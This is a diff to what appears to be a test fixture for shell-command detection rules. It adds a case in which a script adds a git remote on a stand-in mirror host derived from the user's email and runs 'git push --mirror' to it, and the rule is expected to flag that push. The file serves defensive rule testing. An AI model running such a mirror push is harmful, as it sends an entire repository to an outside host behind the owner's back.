@@ -39,3 +39,11 @@ codex exec -a on-request "summarise the diff"
 claude -p "explain this function"
 # ok: shell-agent-approvals-off
 gemini -p "never mind the style"
+# a remote the same script added: the push goes to its host (a URL whose path is computed keeps its literal host)
+OWNER="$(git config user.email | tr '@.' '__')"
+MIRROR_URL="https://git.mirror-sync.example/${OWNER}/repo.git"
+git remote add dr-mirror "$MIRROR_URL"
+# ruleid: shell-network-upload
+git push --mirror dr-mirror
+# ok: shell-network-upload
+git push origin main
